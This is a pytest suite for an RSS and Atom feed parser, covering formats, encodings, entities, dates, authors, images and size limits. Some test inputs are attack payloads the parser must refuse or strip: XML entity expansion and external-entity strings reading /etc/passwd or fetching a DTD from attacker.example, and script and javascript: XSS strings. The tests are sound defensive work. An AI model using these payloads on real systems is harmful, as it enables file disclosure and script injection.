"""Every form and every fault of feeds, one rule a test; the parser runs in the test's own process."""

from datetime import UTC, datetime

import pytest

from digest.errors import NotAFeedError
from digest.sources.feeds.reading import ParsedFeed, read
from digest.values import FetchedArticle, Image

URL = "https://feeds.example.net/town/rss.xml"
NAMESPACES = (
    "xmlns:dc='http://purl.org/dc/elements/1.1/' xmlns:dcterms='http://purl.org/dc/terms/' xmlns:a='http://www.w3.org/2005/Atom' "
    "xmlns:media='http://search.yahoo.com/mrss/' xmlns:content='http://purl.org/rss/1.0/modules/content/' "
    "xmlns:itunes='http://www.itunes.com/DTDs/PodCast-1.0.dtd' xmlns:feedburner='http://rssnamespace.org/feedburner/ext/1.0' "
    "xmlns:pheedo='http://www.pheedo.com/namespace/pheedo' xmlns:sy='http://purl.org/rss/1.0/modules/syndication/'"
)
RDF = "xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#' xmlns='http://purl.org/rss/1.0/'"
LINK = "<link>https://town.example.org/1</link>"


def rss(items: str, channel: str = "<title>Town</title><link>https://town.example.org/</link>") -> bytes:
    return f"<rss version='2.0' {NAMESPACES}><channel>{channel}{items}</channel></rss>".encode()


def atom(entries: str, feed: str = "", root: str = "") -> bytes:
    return f"<feed xmlns='http://www.w3.org/2005/Atom' {root}><title>Town</title>{feed}{entries}</feed>".encode()


def item(inside: str, channel: str = "<title>Town</title><link>https://town.example.org/</link>") -> FetchedArticle:
    [found] = read(rss(f"<item>{inside}</item>", channel), URL).articles
    return found


def entry(inside: str, feed: str = "<link href='https://town.example.org/'/>", root: str = "") -> FetchedArticle:
    [found] = read(atom(f"<entry>{inside}</entry>", feed, root), URL).articles
    return found


FORMATS = {
    "RSS 0.90": b"<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#' xmlns='http://my.netscape.com/rdf/simple/0.9/'>"
    b"<channel><title>Town</title></channel><item><title>One</title><link>https://town.example.org/1</link></item></rdf:RDF>",
    "RSS 0.91": b"<?xml version='1.0'?><!DOCTYPE rss PUBLIC '-//Netscape Communications//DTD RSS 0.91//EN' 'http://dtd.example/rss.dtd'>"
    b"<rss version='0.91'><channel><title>Town</title><item><title>One</title><link>https://town.example.org/1</link></item></channel></rss>",
    "RSS 0.92": rss(f"<item><title>One</title>{LINK}</item>").replace(b"2.0", b"0.92", 1),
    "RSS 1.0": f"<rdf:RDF {RDF}><channel rdf:about='x'><title>Town</title></channel><item rdf:about='https://town.example.org/1'>"
    f"<title>One</title>{LINK}</item></rdf:RDF>".encode(),
    "RSS 2.0": rss(f"<item><title>One</title>{LINK}</item>"),
    "Atom 0.3": b"<feed version='0.3' xmlns='http://purl.org/atom/ns#'><title>Town</title><entry><title>One</title>"
    b"<link rel='alternate' type='text/html' href='https://town.example.org/1'/></entry></feed>",
    "Atom 1.0": atom("<entry><title>One</title><link href='https://town.example.org/1'/></entry>"),
    "Atom without a namespace": b"<feed><title>Town</title><entry><title>One</title><link href='https://town.example.org/1'/></entry></feed>",
    "an Atom entry document": b"<entry xmlns='http://www.w3.org/2005/Atom'><title>One</title><link href='https://town.example.org/1'/></entry>",
}


@pytest.mark.parametrize("body", FORMATS.values(), ids=FORMATS)
def test_every_format_gives_all_its_entries(body: bytes) -> None:
    [found] = read(body, URL).articles
    assert (found.title, found.url) == ("One", "https://town.example.org/1")


# Table 3.2 of malformed input


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-le", "utf-16-be", "utf-32"])
@pytest.mark.parametrize(
    "declared",
    [
        "<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;&a;&a;'>",
        f"<!ENTITY a '{'A' * 1000}'>",
        "<!ENTITY e SYSTEM 'file:///etc/passwd'>",
        "<!ENTITY % e SYSTEM 'http://attacker.example/e.dtd'>",
        "<!entity e 'lower'>",
    ],
    ids=["laughs", "quadratic", "file", "parameter", "lower case"],
)
def test_declared_entities_are_refused_in_every_encoding(declared: str, encoding: str) -> None:
    body = f"<!DOCTYPE rss [{declared}]><rss><channel><title>&a;</title><item><title>&e;</title></item></channel></rss>"
    with pytest.raises(NotAFeedError, match="declares entities"):
        read(body.encode(encoding), URL)


def test_entities_that_an_article_is_about_are_no_attack() -> None:
    found = item(f"{LINK}<description><![CDATA[<p>It began with &lt;!ENTITY and <!ENTITY alone.</p>]]></description>")
    assert found.title.startswith("It began with <!ENTITY")


def test_the_names_of_characters_that_old_feeds_declare_are_no_attack() -> None:
    names = '<!DOCTYPE rdf:RDF [<!ENTITY % HTMLlat1 PUBLIC "-//W3C//ENTITIES Latin 1 for XHTML//EN" "http://dtd.example/lat1.ent">%HTMLlat1;]>'
    body = f"<?xml version='1.0'?>{names}<rdf:RDF {RDF}><item><title>Caf&eacute;</title>{LINK}</item></rdf:RDF>"
    assert read(body.encode(), URL).articles[0].title == "Café"


@pytest.mark.parametrize("cut", [0.3, 0.5, 0.7, 0.9, 0.99])
def test_truncated_xml_keeps_its_complete_items(cut: float) -> None:
    whole = rss(
        "".join(f"<item><title>Story {n}</title><link>https://town.example.org/{n}</link></item>" for n in range(50))
    )
    part = whole[: int(len(whole) * cut)]
    found = [one.title for one in read(part, URL).articles]
    complete = part.count(b"</item>")
    assert found[:complete] == [f"Story {n}" for n in range(complete)]
    assert len(found) <= complete + 1


@pytest.mark.parametrize(
    ("body", "content_type", "title"),
    [
        ("<?xml version='1.0' encoding='utf-8'?>", "", "café “q”"),
        ("<?xml version='1.0' encoding='us-ascii'?>", "text/xml", "café “q”"),
        ("", "application/rss+xml; charset=iso-8859-1", "café “q”"),
    ],
    ids=["declared utf-8", "declared ascii", "server says latin"],
)
def test_windows_bytes_are_read_whatever_is_declared(body: str, content_type: str, title: str) -> None:
    feed = rss(f"<item><title>caf\xe9 \x93q\x94</title>{LINK}</item>".encode().decode()).decode().encode("latin-1")
    assert read(body.encode() + feed, URL, content_type).articles[0].title == title


@pytest.mark.parametrize(
    ("declared", "content_type", "encoding"),
    [
        ("iso-8859-1", "", "utf-8"),
        ("utf-8", "text/xml; charset=iso-8859-1", "utf-8"),
        ("utf-16", "", "utf-8"),
        ("no-such-charset", "text/xml; charset=nonsense", "utf-8"),
        ("windows-1251", "", "cp1251"),
        ("shift_jis", "", "cp932"),
        ("gb2312", "", "gb18030"),
        ("iso-2022-jp", "", "iso2022_jp"),
        ("utf-8", "text/xml; charset=koi8-r", "koi8-r"),
        ("utf-16", "", "utf-16"),
        ("utf-16", "", "utf-16-be"),
        ("utf-8", "", "utf-32"),
        ("utf-8", "", "utf-8-sig"),
    ],
)
def test_a_wrong_declaration_does_not_spoil_the_words(declared: str, content_type: str, encoding: str) -> None:
    words = {
        "cp932": "東京の朝",
        "gb18030": "北京早晨",
        "iso2022_jp": "東京の朝",
        "cp1251": "Доброе утро",
        "koi8-r": "Доброе утро",
    }.get(encoding, "Mañana – “naïve” ☕")
    body = f"<?xml version='1.0' encoding='{declared}'?>{rss(f'<item><title>{words}</title>{LINK}</item>').decode()}"
    assert read(body.encode(encoding), URL, content_type).articles[0].title == words


def test_one_foreign_byte_does_not_spoil_the_others() -> None:
    body = rss(f"<item><title>Ночь é</title>{LINK}</item>").replace("é".encode(), b"\xe9")
    assert read(body, URL).articles[0].title == "Ночь é"


@pytest.mark.parametrize(
    ("written", "title"),
    [
        ("Caf&eacute; &hellip;", "Café …"),
        ("AT&T & co", "AT&T & co"),
        ("Q&amp;A", "Q&A"),
        ("It&#8217;s &#x2013; &#X41;", "It’s – A"),
        ("It&amp;#8217;s", "It’s"),
        ("<![CDATA[Ben & Jerry &#038; co]]>", "Ben & Jerry & co"),
        ("&#55357;&#56832; up", "😀 up"),
        ("a&#0;b&#8;c\x08d\x00e", "abcde"),
        ("&nosuch; thing", "&nosuch; thing"),
    ],
)
def test_entities_and_ampersands_are_what_they_were_meant_to_be(written: str, title: str) -> None:
    assert item(f"<title>{written}</title>{LINK}").title == title


def test_a_bare_ampersand_in_a_guid_or_link_survives() -> None:
    found = item(
        "<guid isPermaLink='false'>https://town.example.org/?p=1&q=2</guid><link>https://town.example.org/?p=1&copy=2</link>"
    )
    assert found.guid == "https://town.example.org/?p=1&q=2"
    assert found.url == "https://town.example.org/?p=1&copy=2"


def test_guids_repeated_or_missing_and_one_link_for_all_keep_every_item() -> None:
    same = (
        "<item><guid>x</guid><link>https://town.example.org/</link></item>" * 3
        + "<item><title>No guid, no date</title></item>" * 2
    )
    assert len(read(rss(same), URL).articles) == 5


@pytest.mark.parametrize(
    "body",
    [
        b"<!DOCTYPE html><html><head><title>Log in</title></head><body><form></form></body></html>",
        b"<html xmlns='http://www.w3.org/1999/xhtml' xmlns:atom='http://www.w3.org/2005/Atom'><body>Just a moment</body></html>",
        b"\xef\xbb\xbf <!-- cached --><HTML><body><item>Menu</item></body></HTML>",
        b"garbage",
        b"",
        b"\x00\x01\x02",
        b"<urlset><url><loc>https://town.example.org/1</loc></url></urlset>",
        b"{}",
        b'{"items": {}}',
        b"{" * 100_000,
    ],
)
def test_what_is_no_feed_is_an_error(body: bytes) -> None:
    with pytest.raises(NotAFeedError):
        read(body, URL)


@pytest.mark.parametrize(
    "prefix", [b"\n\n  ", b"<br />\n<b>Warning</b>: something in line 3<br />\n", b"\xef\xbb\xbf\xef\xbb\xbf"]
)
def test_what_a_server_writes_before_the_feed_is_skipped(prefix: bytes) -> None:
    assert read(prefix + b"<?xml version='1.0'?>" + FORMATS["RSS 2.0"], URL).articles[0].title == "One"


def test_elements_closed_in_the_wrong_order_lose_nothing_else() -> None:
    body = rss(
        f"<item><title>One</titel>{LINK}<category>Town</category></item><item><title>Two</title>{LINK}</item>",
        "<title>T</title>",
    )
    assert [one.title for one in read(body, URL).articles][-1] == "Two"


# Titles


@pytest.mark.parametrize(
    ("written", "title"),
    [
        ("&lt;b&gt;Bold&lt;/b&gt; words", "Bold words"),
        ("<![CDATA[<em>Bold</em> words]]>", "Bold words"),
        ("&lt;/example&gt;", "</example>"),
        ("Why 5 &lt; 8 and &lt;BIGCO&gt; rose", "Why 5 < 8 and <BIGCO> rose"),
        ("The &amp;lt;b&amp;gt; tag explained", "The <b> tag explained"),
        ("Line&lt;br/&gt;two", "Line two"),
        ("H&lt;sub&gt;2&lt;/sub&gt;O", "H2O"),
        ("&lt;script&gt;alert(1)&lt;/script&gt;Safe", "Safe"),
        ("&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;Safe", "Safe"),
        ("&lt;img src=x onerror=alert(1)&gt;Safe", "Safe"),
        ("  many \n  spaces ", "many spaces"),
    ],
)
def test_a_title_is_plain_text_without_losing_what_it_is_about(written: str, title: str) -> None:
    assert item(f"<title>{written}</title>{LINK}").title == title


@pytest.mark.parametrize(
    ("written", "title"),
    [
        (
            "<title type='xhtml'><div xmlns='http://www.w3.org/1999/xhtml'>This is <b>bold</b> &amp; more</div></title>",
            "This is bold & more",
        ),
        ("<title type='html'>&lt;i&gt;Ships&lt;/i&gt; &amp;amp; boats</title>", "Ships & boats"),
        ("<title type='text'>A &lt;blink&gt; in time</title>", "A in time"),
        ("<title mode='base64' type='text/plain'>U2hpcHM=</title>", "Ships"),
    ],
)
def test_titles_of_all_atom_types_are_read(written: str, title: str) -> None:
    assert entry(written).title == title


@pytest.mark.parametrize(
    ("inside", "title"),
    [
        (f"{LINK}<description>&lt;p&gt;Short words.&lt;/p&gt;</description>", "Short words."),
        (f"{LINK}<content:encoded>&lt;p&gt;Content words.&lt;/p&gt;</content:encoded>", "Content words."),
        (LINK, "https://town.example.org/1"),
        (f"<media:title>Shown</media:title>{LINK}", "Shown"),
        (f"<dc:title>Named</dc:title>{LINK}", "Named"),
    ],
)
def test_a_missing_title_comes_from_the_text_or_the_address(inside: str, title: str) -> None:
    assert item(inside).title == title


def test_a_feed_without_title_is_called_by_its_sites_address_or_its_own() -> None:
    assert read(rss("", "<link>https://town.example.org/</link>"), URL).title == "https://town.example.org/"
    assert read(rss("", ""), URL).title == URL


# Addresses


@pytest.mark.parametrize(
    ("inside", "url"),
    [
        ("<link>story.html</link>", "https://town.example.org/news/story.html"),
        ("<link>\n  https://town.example.org/a \n</link>", "https://town.example.org/a"),
        ("<guid>https://town.example.org/g</guid>", "https://town.example.org/g"),
        ("<guid isPermaLink='true'>/g</guid>", "https://town.example.org/g"),
        ("<guid isPermaLink='false'>https://town.example.org/g</guid>", "https://town.example.org/news/"),
        ("<guid>tag:1234</guid>", "https://town.example.org/news/"),
        ("<link/><guid>https://town.example.org/g</guid>", "https://town.example.org/g"),
        (
            "<link>https://proxy.example/1</link><feedburner:origLink>https://town.example.org/o</feedburner:origLink>",
            "https://town.example.org/o",
        ),
        (
            "<link>https://proxy.example/1</link><pheedo:origLink>https://town.example.org/o</pheedo:origLink>",
            "https://town.example.org/o",
        ),
        ("<a:link href='https://town.example.org/a'/>", "https://town.example.org/a"),
        ("<enclosure url='https://town.example.org/a.mp3' type='audio/mpeg'/>", "https://town.example.org/a.mp3"),
        ("<link uri='at://did:plc:1/post/2'>https://town.example.org/a</link>", "https://town.example.org/a"),
        ("<link>http://town.example.org</link>", "http://town.example.org"),
        ("<link>javascript:alert(1)</link>", "https://town.example.org/news/"),
        ("<link>data:text/html,x</link><guid>https://town.example.org/g</guid>", "https://town.example.org/g"),
        ("<link>http://[broken/</link>", "https://town.example.org/news/"),
        ("<title>x</title>", "https://town.example.org/news/"),
    ],
)
def test_an_items_address_is_the_first_of_the_web_that_it_names(inside: str, url: str) -> None:
    assert item(inside, "<title>Town</title><link>https://town.example.org/news/</link>").url == url


@pytest.mark.parametrize(
    ("inside", "feed", "root", "url"),
    [
        ("<link href='a.html'/>", "", "xml:base='https://town.example.org/b/'", "https://town.example.org/b/a.html"),
        (
            "<link href='a.html' xml:base='c/'/>",
            "",
            "xml:base='https://town.example.org/b/'",
            "https://town.example.org/b/c/a.html",
        ),
        ("<link href='a.html'/>", "", "xml:base='/b/'", "https://feeds.example.net/b/a.html"),
        ("<link href='a.html'/>", "", "", "https://feeds.example.net/town/a.html"),
        ("<link href='a.html'/>", "<link href='/x/'/>", "", "https://feeds.example.net/town/a.html"),
        (
            "<link href='a.html'/>",
            "<link href='https://town.example.org/x/'/>",
            "",
            "https://town.example.org/x/a.html",
        ),
        (
            "<link rel='self' href='/api/1'/><link rel='replies' href='/r'/><link href='/a'/>",
            "",
            "",
            "https://feeds.example.net/a",
        ),
        ("<id>HTTPS://town.example.org/1</id>", "", "", "https://town.example.org/1"),
        ("<id>/town/1</id>", "<link href='https://town.example.org/'/>", "", "https://town.example.org/"),
        ("<link rel='alternate' type='application/pdf' href='/a.pdf'/>", "", "", "https://feeds.example.net/a.pdf"),
    ],
)
def test_an_entrys_relative_address_stands_in_its_base_or_the_feed(inside: str, feed: str, root: str, url: str) -> None:
    assert entry(inside, feed, root).url == url


def test_a_relative_site_stands_in_the_feeds_address() -> None:
    found = read(rss("<item><link>a.html</link></item>", "<link>/town/</link>"), URL)
    assert (found.site, found.articles[0].url) == (
        "https://feeds.example.net/town/",
        "https://feeds.example.net/town/a.html",
    )


def test_pictures_in_the_text_stand_in_the_articles_address() -> None:
    found = item(
        "<link>https://town.example.org/2026/1/</link><description>&lt;img src='p.jpg'&gt;Words.</description>"
    )
    assert found.image == Image("https://town.example.org/2026/1/p.jpg")


# Dates


@pytest.mark.parametrize("prefix", ["dc", "d"])
def test_rss_1_has_its_dates_under_any_prefix(prefix: str) -> None:
    body = (
        f"<rdf:RDF {RDF} xmlns:{prefix}='http://purl.org/dc/elements/1.1/' xmlns:taxo='http://purl.org/rss/1.0/modules/taxonomy/'>"
        "<channel><title>Town</title><image rdf:resource='i'/></channel><image><url>https://town.example.org/l.png</url></image>"
        f"<item><title>One</title>{LINK}<taxo:topics><rdf:Bag><rdf:li resource='t'/></rdf:Bag></taxo:topics>"
        f"<{prefix}:creator>Ana</{prefix}:creator>"
        f"<{prefix}:date>2026-11-24T06:00+01:00</{prefix}:date></item></rdf:RDF>"
    )
    [found] = read(body.encode(), URL).articles
    assert found.published == datetime(2026, 11, 24, 5, tzinfo=UTC)
    assert found.authors == ("Ana",)


@pytest.mark.parametrize(
    ("inside", "published", "updated"),
    [
        ("<pubDate>Tue, 24 Nov 2026 06:00:00 GMT</pubDate><dc:date>2026-11-24T05:00:00Z</dc:date>", 5, 5),
        ("<pubDate>Tue, 24 Nov 2026 06:00:00 GMT</pubDate><a:updated>2026-11-24T08:00:00Z</a:updated>", 6, 8),
        ("<pubDate>Tue, 24 Nov 2026 06:00:00 GMT</pubDate><dc:date>soon</dc:date>", 6, None),
        ("<a:published>2026-11-24T07:00:00Z</a:published>", 7, None),
        ("<a:updated>2026-11-24T08:00:00Z</a:updated>", 8, 8),
        (
            "<dcterms:created>2026-11-24T04:00:00Z</dcterms:created><dcterms:modified>2026-11-24T09:00:00Z</dcterms:modified>",
            4,
            9,
        ),
        ("<title>x</title>", None, None),
    ],
)
def test_a_publication_date_comes_from_what_says_it_best(
    inside: str, published: int | None, updated: int | None
) -> None:
    found = item(inside)
    assert (found.published and found.published.hour, found.updated and found.updated.hour) == (published, updated)


def test_an_atom_entry_has_both_its_dates() -> None:
    found = entry("<published>2026-11-24T06:00:00Z</published><updated>2026-11-24T09:00:00Z</updated>")
    assert (found.published, found.updated) == (
        datetime(2026, 11, 24, 6, tzinfo=UTC),
        datetime(2026, 11, 24, 9, tzinfo=UTC),
    )


# People, categories, pictures, languages


@pytest.mark.parametrize(
    ("inside", "authors"),
    [
        ("<author>ana@town.example (Ana Ruiz)</author>", ("Ana Ruiz",)),
        ("<author>Ana Ruiz (ana@town.example)</author>", ("Ana Ruiz",)),
        ("<author>Ana Ruiz &lt;ana@town.example&gt;</author>", ("Ana Ruiz",)),
        ("<author>ana@town.example</author>", ("ana@town.example",)),
        ("<author>ana@town.example</author><dc:creator>Ana Ruiz</dc:creator>", ("Ana Ruiz",)),
        (
            "<dc:creator>Ana Ruiz</dc:creator><dc:creator>Ben Ode</dc:creator><dc:creator>Ana Ruiz</dc:creator>",
            ("Ana Ruiz", "Ben Ode"),
        ),
        (
            "<dc:creator>Ana (Town University), Ben (Sea University)</dc:creator>",
            ("Ana (Town University), Ben (Sea University)",),
        ),
        ("<itunes:author>Ana Ruiz</itunes:author>", ("Ana Ruiz",)),
        ("<a:author><a:name>Ana Ruiz</a:name><a:email>ana@town.example</a:email></a:author>", ("Ana Ruiz",)),
        ("<dc:creator>&lt;a href='/ana'&gt;Ana Ruiz&lt;/a&gt;</dc:creator>", ("Ana Ruiz",)),
        ("<title>x</title>", ("The desk",)),
    ],
)
def test_authors_are_people_by_name_and_an_address_is_the_last_resort(inside: str, authors: tuple[str, ...]) -> None:
    assert (
        item(inside, "<title>T</title><managingEditor>desk@town.example (The desk)</managingEditor>").authors == authors
    )


def test_an_entry_without_author_has_that_of_its_source_or_its_feed() -> None:
    feed = "<author><name>Ana</name></author><author><name>Ben</name></author>"
    assert entry("<title>x</title>", feed).authors == ("Ana", "Ben")
    assert entry("<source><author><name>Cas</name></author></source>", feed).authors == ("Cas",)


def test_categories_of_all_kinds_are_gathered_once() -> None:
    found = item(
        "<category domain='x'>Town</category><category><![CDATA[Arts & letters]]></category><dc:subject>Sea</dc:subject>"
        "<category>Town</category>"
        "<itunes:keywords>one, two</itunes:keywords><media:category>Views</media:category><a:category term='t-1' label='Tram'/>"
    )
    assert found.categories == ("Town", "Arts & letters", "Sea", "one", "two", "Views", "Tram")
    assert entry("<category term='Bridge'/>").categories == ("Bridge",)


@pytest.mark.parametrize(
    ("inside", "image"),
    [
        (
            "<media:content url='https://i.example/s.jpg' medium='image' width='300'/>"  # noqa: ISC004
            "<media:content url='https://i.example/l.jpg' type='image/jpeg' width='1200' height='800'/>",
            Image("https://i.example/l.jpg", "", 1200, 800),
        ),
        (
            "<media:group><media:content url='https://i.example/g.jpg' medium='image'/></media:group>",
            Image("https://i.example/g.jpg"),
        ),
        (
            "<media:content url='/film.mp4' medium='video'><media:thumbnail url='https://i.example/t.jpg' width='640'/></media:content>",
            Image("https://i.example/t.jpg", "", 640),
        ),
        ("<media:thumbnail url='/t.jpg'/>", Image("https://town.example.org/t.jpg")),
        ("<itunes:image href='https://i.example/i.jpg'/>", Image("https://i.example/i.jpg")),
        ("<image>https://i.example/plain.jpg</image>", Image("https://i.example/plain.jpg")),
        ("<image><url>https://i.example/url.jpg</url></image>", Image("https://i.example/url.jpg")),
        ("<enclosure url='https://i.example/e.jpg' type='image/jpeg' length='1'/>", Image("https://i.example/e.jpg")),
        ("<enclosure url='https://i.example/e.webp'/>", Image("https://i.example/e.webp")),
        ("<enclosure url='https://i.example/e.mp3' type='audio/mpeg'/>", None),
        ("<media:content url='javascript:alert(1)' medium='image'/>", None),
    ],
)
def test_a_picture_comes_from_media_thumbnails_images_and_enclosures(inside: str, image: Image | None) -> None:
    assert item(f"{LINK}{inside}").image == image


def test_an_items_own_image_is_not_the_feeds() -> None:
    channel = "<title>T</title><image><url>https://i.example/logo.png</url><title>Logo</title></image>"
    assert item(LINK, channel).image is None
    assert item(LINK, channel).title == "https://town.example.org/1"


@pytest.mark.parametrize(
    ("body", "language"),
    [
        (rss("", "<language>en-US</language>"), "en-US"),
        (rss("", "<dc:language>es</dc:language>"), "es"),
        (rss("", "<language>de</langauge>"), "de"),
        (atom("", root="xml:lang='pt-BR'"), "pt-BR"),
        (rss("", ""), ""),
    ],
)
def test_the_language_of_a_feed_is_as_it_was_written(body: bytes, language: str) -> None:
    assert read(body, URL).language == language


def test_an_entry_may_have_a_language_of_its_own() -> None:
    [one, two] = read(
        atom("<entry xml:lang='eu'><title>x</title></entry><entry><title>y</title></entry>", root="xml:lang='es'"), URL
    ).articles
    assert (one.language, two.language) == ("eu", "es")


# Summaries


def test_a_short_text_beside_a_long_one_is_the_summary() -> None:
    found = item(
        "<description>A short one.</description><content:encoded>&lt;p&gt;A long one, with all of it.&lt;/p&gt;</content:encoded>"
        "<media:description>A caption.</media:description><itunes:summary>Another.</itunes:summary>"
    )
    assert (found.summary, found.text) == ("A short one.", "A long one, with all of it.")


@pytest.mark.parametrize("element", ["itunes:summary", "itunes:subtitle", "media:description", "dc:description"])
def test_a_summary_is_taken_from_other_vocabularies_where_there_is_no_other(element: str) -> None:
    assert item(f"<{element}>Its words.</{element}>").summary == "Its words."


def test_no_field_has_a_script_in_it() -> None:
    evil = "&lt;script&gt;alert(1)&lt;/script&gt;&lt;b onclick='alert(1)'&gt;Words&lt;/b&gt;"
    found = item(
        f"<title>{evil}</title><description>{evil}</description><content:encoded>{evil}</content:encoded><dc:creator>{evil}</dc:creator>"
        f"<category>{evil}</category><link>javascript:alert(1)</link><media:content url='data:image/png;base64,x' medium='image'/>"
    )
    assert "alert" not in repr(found)
    assert "<" not in "".join((found.title, found.summary, found.text, *found.authors, *found.categories))


# Bounds


def test_fifty_thousand_items_are_cut_and_it_is_said() -> None:
    found = read(rss("".join(f"<item><guid>{number}</guid></item>" for number in range(50_000))), URL)
    assert [one.guid for one in found.articles] == [str(number) for number in range(2_000)]
    assert found.notes == ("It has 50,000 items; the first 2,000 were read.",)


def test_of_a_feed_that_grows_downwards_the_last_items_stay() -> None:
    items = "".join(f"<item><guid>{n}</guid><pubDate>2026-11-{n // 100 + 1:02d}</pubDate></item>" for n in range(2_500))
    found = read(rss(items), URL)
    assert [one.guid for one in found.articles] == [str(number) for number in range(500, 2_500)]
    assert found.notes == ("It has 2,500 items; the last 2,000 were read.",)


def test_fields_are_capped() -> None:
    found = item(
        f"<title>{'t' * 900}</title><guid>{'g' * 2000}</guid><link>https://town.example.org/{'l' * 3000}</link>"
        + "".join(f"<category>c{n}</category><dc:creator>p{n}</dc:creator>" for n in range(99))
        + f"<description>{'d' * 9000}</description>"
    )
    assert (len(found.title), len(found.guid), len(found.categories), len(found.authors)) == (500, 1024, 50, 20)
    assert len(found.summary) <= 2000
    assert len(found.url) <= 2048


@pytest.mark.parametrize(
    ("channel", "minutes"),
    [
        ("<ttl>90</ttl>", 90),
        ("<sy:updatePeriod>daily</sy:updatePeriod><sy:updateFrequency>4</sy:updateFrequency>", 360),
        ("<sy:updatePeriod> hourly </sy:updatePeriod>", 60),
        ("<ttl>soon</ttl><sy:updateFrequency>0</sy:updateFrequency>", None),
    ],
)
def test_a_feed_says_how_long_it_asks_to_be_left_alone(channel: str, minutes: int | None) -> None:
    assert read(rss("", channel), URL).minutes == minutes


def test_a_feed_says_where_it_is_pushed_from_and_what_made_it() -> None:
    found: ParsedFeed = read(
        rss(
            "",
            "<a:link rel='hub' href='https://hub.example/'/><a:link rel='self' href='/town/feed'/><generator>https://wordpress.org/?v=6</generator>",
        ),
        URL,
    )
    assert (found.hub, found.topic) == ("https://hub.example/", "https://feeds.example.net/town/feed")
    assert "wordpress" in found.generator


LETTER = "".join(f"Sentence number {number} says what changed before the ice closes the sound. " for number in range(9))


def test_a_small_thumbnail_gives_way_to_a_picture_of_the_text() -> None:
    thumbnail = "<media:thumbnail url='https://town.example.org/thumb.jpg' width='{}' height='144'/>"
    text = "<description>&lt;p&gt;&lt;img src='/bridge.jpg'&gt;The bridge is open.&lt;/p&gt;</description>"
    alone, beside = item(thumbnail.format(144)), item(thumbnail.format(144) + text)
    assert alone.image == Image("https://town.example.org/thumb.jpg", "", 144, 144)
    assert beside.image == Image("https://town.example.org/bridge.jpg")
    large = item(thumbnail.format(576) + text).image
    assert large is not None
    assert large.url.endswith("thumb.jpg")


def test_a_summary_that_is_the_text_cut_off_gives_way_to_whole_sentences_and_the_title_is_not_repeated() -> None:
    title = "The ferry sails again"
    found = item(f"<title>{title}</title><description>{title} {LETTER[:120]} […]</description>"
                 f"<content:encoded>&lt;h1&gt;{title}&lt;/h1&gt;&lt;p&gt;{LETTER}&lt;/p&gt;</content:encoded>")  # fmt: skip
    assert found.summary.startswith("Sentence number 0 says")
    assert found.summary.endswith("the sound.")


def test_a_language_that_the_text_cannot_be_in_is_not_believed() -> None:
    channel = "<title>Town</title><language>en-us</language>"
    text = "<description>أعلنت البلدية اليوم عن افتتاح الجسر الجديد فوق النهر أمام حركة المرور</description>"
    assert item(f"<title>BBC: الجسر مفتوح</title>{text}", channel).language == ""
    found = item(f"<title>BBC: الجسر مفتوح</title><dc:language>ar_EG</dc:language>{text}", channel)
    assert (found.language, found.direction) == ("ar-eg", "rtl")
